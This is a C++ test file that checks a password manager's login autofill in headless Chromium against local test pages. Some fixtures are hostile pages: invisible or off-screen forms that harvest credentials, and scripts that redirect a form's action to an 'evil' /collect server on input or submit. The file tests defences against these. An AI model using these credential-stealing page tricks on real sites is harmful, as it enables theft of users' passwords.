// Load Web Page against login pages built the way real sites build them and against
// hostile ones, in the real headless Chromium: one table of page, card, what the page's
// fields hold afterwards (read back from the page's DOM, shadow roots and frames
// included) and what the servers received. The card's site is 127.0.0.1 on one port;
// another port, and another name of this computer ("evil.localhost"), are other sites.

#include <gtest/gtest.h>

#include <QJsonArray>
#include <iostream>

#include "browser_test_support.h"
#include "core/browser/login_fill_text.h"
#include "core/cards/card.h"
#include "support/card_fixtures.h"
#include "test_web_server.h"

namespace tessaline {
namespace {

using testing::CardFields;
using testing::MakeCard;

constexpr const char* kUser = "joe";
constexpr const char* kPassword = "pw-SECRET";

QByteArray Page(const QByteArray& body) {
    return "<!DOCTYPE html><html><head><title>Login</title></head><body>" + body + "</body></html>";
}

// The login form a person sees, sent to the card's own site.
const QByteArray kVisibleForm =
    "<form action='/page/Welcome' method='post'><input name='u'>"
    "<input type='password' name='p'><button>Sign in</button></form>";

// A form nobody sees, in the way `style` hides it, before the visible one.
QByteArray HiddenFormFirst(const QByteArray& formStyle, const QByteArray& fieldStyle = "") {
    return Page("<form action='/page/Hidden' method='post' style='" + formStyle +
                "'><input name='iu' style='" + fieldStyle +
                "'><input type='password' name='ip' style='" + fieldStyle + "'></form>" +
                kVisibleForm);
}

struct Row {
    const char* what;
    QByteArray html;
    bool submit;                        // the card has Automatic Access and submitting is on
    std::string fields;                 // every frame's fields afterwards, "[name=value ...]" each
    std::vector<std::string> received;  // "METHOD path body" of each form sent, both sites
    std::string status;
    bool twoStep = false;  // the status is the password page's, filled when it follows
};

class LoginFillTableTest : public testing::ChromiumRigTest {
protected:
    void SetUp() override {
        ChromiumRigTest::SetUp();
        if (!StartedServerAndRig())
            return;
        ASSERT_TRUE(evil.Start());
        rig->profile.WriteInt(prefs::kGeneralSection, prefs::kSubmitLoginForms, 1);
        ASSERT_TRUE(rig->automation.StartExplorerAtHome());
    }

    // Every input field of every frame of the shown tab, open shadow roots included.
    std::string Fields() {
        devtools::DevToolsClient client(rig->profileFolder);
        const auto page = client.LastActivePage();
        const auto session = page ? client.Attach(page->id) : std::nullopt;
        if (!session)
            return "no page";
        std::string out;
        for (const devtools::PageFrame& frame : client.Frames(*session)) {
            const auto value =
                client.CallInIsolatedWorld(*session, frame.id, QStringLiteral(R"js(function () {
                  const out = [];
                  const walk = (root) => {
                    for (const e of root.querySelectorAll('*')) {
                      if (e.localName === 'input' && e.type !== 'submit')
                        out.push(e.name + '=' + e.value);
                      if (e.shadowRoot) walk(e.shadowRoot);
                    }
                  };
                  walk(document);
                  return out.join(' ');
                })js"),
                                           {});
            out += (out.empty() ? "[" : " [") +
                   value.value_or(QJsonValue()).toString().toStdString() + "]";
        }
        return out;
    }

    // The forms the two sites received (pages fetched are not forms).
    std::vector<std::string> Received() const {
        std::vector<std::string> out;
        for (const testing::TestWebServer* server : {&this->server, &evil})
            for (const testing::SeenRequest& seen : server->Seen())
                if (seen.method == "POST" || seen.path.contains(QLatin1Char('?')) ||
                    server == &evil)
                    out.push_back(seen.method.toStdString() + " " + seen.path.toStdString() + " " +
                                  seen.body.toStdString());
        return out;
    }

    testing::TestWebServer evil;
};

TEST_F(LoginFillTableTest, PagesCardsFieldsAndWhatTheServersReceived) {
    const QByteArray evilAction = evil.Url("/collect").toUtf8();
    const QByteArray evilLocal =
        "http://evil.localhost:" + QByteArray::number(server.Port()) + "/evil-collect";
    const std::string evilSite = "http://127.0.0.1:" + std::to_string(evil.Port());
    const std::string notSent = "Filled, not submitted: the form sends to another site (";
    const std::string welcome = "POST /page/Welcome u=joe&p=pw-SECRET";
    const std::string filled = "[iu= ip= u=joe p=pw-SECRET]";
    const std::string evilForm = "[u=joe p=pw-SECRET]";

    // The second page of the two-step login.
    server.ServePage("/t/step2", Page("<form action='/page/Welcome' method='post'>"
                                      "<input type='password' name='p' "
                                      "autocomplete='current-password'></form>"));
    const std::vector<Row> rows = {
        {"plain form", Page(kVisibleForm), true, "", {welcome}, kStatusLoginSubmitted},
        {"opacity 0", HiddenFormFirst("opacity:0"), false, filled, {}, kStatusLoginFilled},
        {"nearly transparent parent",
         Page("<div style='opacity:0.3'><div style='opacity:0.1'>"
              "<form action='/page/Hidden'><input name='iu'><input type='password' name='ip'>"
              "</form></div></div>" +
              kVisibleForm),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"off-screen",
         HiddenFormFirst("position:absolute;left:-9999px;top:0"),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"1x1 px",
         HiddenFormFirst("", "width:1px;height:1px;padding:0;border:0"),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"clip-path",
         HiddenFormFirst("clip-path:inset(50%)"),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"clip rect",
         HiddenFormFirst("position:absolute;clip:rect(0 0 0 0)"),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"transparent text, no box",
         HiddenFormFirst("", "color:transparent;background:transparent;border:0"),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"covered by an overlay",
         Page("<form action='/page/Hidden' style='position:absolute;top:10px;left:10px'>"
              "<input name='iu'><input type='password' name='ip'></form>"
              "<div style='position:absolute;top:0;left:0;width:100%;height:100px;"
              "background:white;z-index:5'></div>"
              "<div style='height:150px'></div>" +
              kVisibleForm),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"disabled and read-only",
         Page("<form action='/page/Hidden'><input name='iu' disabled>"
              "<input type='password' name='ip' readonly></form>" +
              kVisibleForm),
         false,
         filled,
         {},
         kStatusLoginFilled},
        {"invisible form before the visible one, submitted",
         HiddenFormFirst("opacity:0"),
         true,
         "",
         {welcome},
         kStatusLoginSubmitted},
        {"action on another port",
         Page("<form action='" + evilAction +
              "' method='post'><input name='u'><input type='password' name='p'></form>"),
         true,
         evilForm,
         {},
         notSent + evilSite + ")."},
        {"action on another host name",
         Page("<form action='" + evilLocal +
              "' method='post'><input name='u'><input type='password' name='p'></form>"),
         true,
         evilForm,
         {},
         notSent + "http://evil.localhost:" + std::to_string(server.Port()) + ")."},
        {"action changed by the page on input",
         Page(kVisibleForm +
              "<script>document.addEventListener('input', (e) => "
              "{ e.target.form.action = '" +
              evilAction + "'; });</script>"),
         true,
         evilForm,
         {},
         notSent + evilSite + ")."},
        {"action changed by the page on submit",
         Page(kVisibleForm +
              "<script>document.forms[0].addEventListener('submit', (e) => "
              "{ e.target.action = '" +
              evilAction + "'; });</script>"),
         true,
         evilForm,
         {},
         notSent + evilSite + ")."},
        {"username, Organisation, password",
         Page("<form action='/page/Welcome'><input name='username'><input name='organisation'>"
              "<input type='password' name='password'></form>"),
         false,
         "[username=joe organisation= password=pw-SECRET]",
         {},
         kStatusLoginFilled},
        {"autocomplete attributes",
         Page("<form action='/page/Welcome'><input name='a' autocomplete='username'>"
              "<input name='b'><input type='password' name='c' autocomplete='current-password'>"
              "</form>"),
         false,
         "[a=joe b= c=pw-SECRET]",
         {},
         kStatusLoginFilled},
        // Submitting is on, but "joe" is no e-mail address: the browser does not send it.
        {"e-mail type",
         Page("<form action='/page/Welcome' method='post'><input type='email' name='f1'>"
              "<input name='company'><input type='password' name='f3'></form>"),
         true,
         "[f1=joe company= f3=pw-SECRET]",
         {},
         kStatusLoginFilled},
        {"labelled fields",
         Page("<form action='/page/Welcome'><label for='x1'>Login</label><input id='x1' name='x1'>"
              "<label>Team <input name='x2'></label><input type='password' name='x3'></form>"),
         false,
         "[x1=joe x2= x3=pw-SECRET]",
         {},
         kStatusLoginFilled},
        {"sign-up form",
         Page("<form action='/page/Welcome' method='post'>"
              "<input type='email' name='e' autocomplete='username'>"
              "<input type='password' name='n1' autocomplete='new-password'>"
              "<input type='password' name='n2' autocomplete='new-password'></form>"),
         true,
         "[e= n1= n2=]",
         {},
         kStatusNewPasswordFormNotFilled},
        {"change-password form",
         Page("<form action='/page/Welcome' method='post'>"
              "<input type='password' name='old' autocomplete='current-password'>"
              "<input type='password' name='new' autocomplete='new-password'>"
              "<input type='password' name='again' autocomplete='new-password'></form>"),
         true,
         "[old=pw-SECRET new= again=]",
         {},
         kStatusCurrentPasswordOnly},
        {"two-step login",
         Page("<form action='/t/step2' method='post'>"
              "<input name='login' autocomplete='username'><button>Next</button></form>"),
         true,
         "",
         {"POST /t/step2 login=joe", "POST /page/Welcome p=pw-SECRET"},
         kStatusLoginSubmitted,
         true},
        {"form added by script 1 s after load",
         Page("<script>setTimeout(() => document.body.insertAdjacentHTML('beforeend', \"" +
              kVisibleForm + "\"), 1000);</script>"),
         false,
         "[u=joe p=pw-SECRET]",
         {},
         kStatusLoginFilled},
        {"open shadow root",
         Page("<div id='host'></div><script>document.getElementById('host')"
              ".attachShadow({mode: 'open'}).innerHTML = \"" +
              kVisibleForm + "\";</script>"),
         false,
         "[u=joe p=pw-SECRET]",
         {},
         kStatusLoginFilled},
        {"srcdoc frame",
         Page("<iframe style='width:400px;height:150px' srcdoc=\"" + kVisibleForm + "\"></iframe>"),
         false,
         "[] [u=joe p=pw-SECRET]",
         {},
         kStatusLoginFilled},
    };

    int number = 0;
    for (const Row& row : rows) {
        const QString path = QStringLiteral("/t/%1").arg(++number);
        server.ServePage(path, row.html);
        server.Forget();
        evil.Forget();
        const CCard card = MakeCard(CardFields{
            .code = 4,
            .address = server.Url(path).toStdString(),
            .user = kUser,
            .password = kPassword,
            .attributes = static_cast<std::uint8_t>(row.submit ? CCard::kAutomaticAccessBit : 0)});
        std::string status = rig->commands.LoadWebPage(&card);
        if (row.twoStep) {
            EXPECT_EQ(status, kStatusUserIdSubmitted) << row.what;
            testing::WaitUntil([&] {
                status = rig->commands.FillPendingLogin();
                return !status.empty();
            });
        }
        EXPECT_EQ(status, row.status) << row.what;
        // Forms are sent after the fill returns: the ones expected, then time for one
        // that should not arrive.
        testing::WaitUntil([&] { return Received().size() >= row.received.size(); });
        testing::WaitUntil([&] { return Received().size() > row.received.size(); }, 700);
        const std::string fields = row.fields.empty() ? "(page left)" : Fields();
        if (!row.fields.empty()) {
            EXPECT_EQ(fields, row.fields) << row.what;
        }
        const std::vector<std::string> received = Received();
        EXPECT_EQ(received, row.received) << row.what;
        // The table as it ran.
        std::string sent;
        for (const std::string& form : received)
            sent += (sent.empty() ? "" : "; ") + form;
        std::cout << "| " << row.what << " | " << fields << " | " << (sent.empty() ? "-" : sent)
                  << " | " << status << " |\n";
    }
}

}  // namespace
}  // namespace tessaline
